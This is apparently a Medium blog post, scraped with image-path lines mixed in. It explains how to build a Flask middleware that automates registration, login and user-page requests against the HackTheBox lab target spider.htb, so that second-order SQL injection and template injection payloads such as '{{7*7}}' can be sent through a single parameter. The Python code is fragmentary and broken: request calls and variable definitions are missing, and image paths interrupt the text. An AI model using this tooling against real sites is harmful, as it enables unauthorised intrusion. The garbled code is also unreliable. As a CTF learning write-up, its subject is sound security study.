Creating simple middleware for easy exploitation of second order injections like SQLi, SSTI etc

  1. Checking the user registration page we have, username and password fields.
from flask import Flask
from flask import request
import uuid
import requests
import re
app = Flask(__name__)@app.route('/')
def index():#Getting payload from attacker as a GET username parameter
post_data_reg={"username": uname,"confirm_username": uname,"password": "12345a","confirm_password": "12345a"}
#Creating a post data payload in json format
r1='http://spider.htb/register', data=post_data_reg)
#Sending Registration request
uuid = re.findall(r"[\w]{8}-[\w]{4}-[\w]{4}-[\w]{4}-[\w]{12}", r1.text)
#finding and filtering uuid in http response of registration using regular expression
#return r1.text#Creating post data payload for login request
r2='http://spider.htb/login', data=post_data_login)
#Sending login request
#Filtering out session cookie required for user info request
custom_header = {"Cookie": cookie}
r3= requests.get('http://spider.htb/user', headers = custom_header)
#Sedning Get request to /user with user session cookie
return r3.text
#Sedning the http response of user info page back tobrowser'', port=81)
proxychains python3{{7*7}}



Get the Medium app

A button that says 'Download on the App Store', and if clicked it will lead you to the iOS App store
A button that says 'Get it on, Google Play', and if clicked it willlead you to the Google Play storeComputer Security Enthusiast. Tries to understand how computers work. Would love tohear your suggestions and feedback.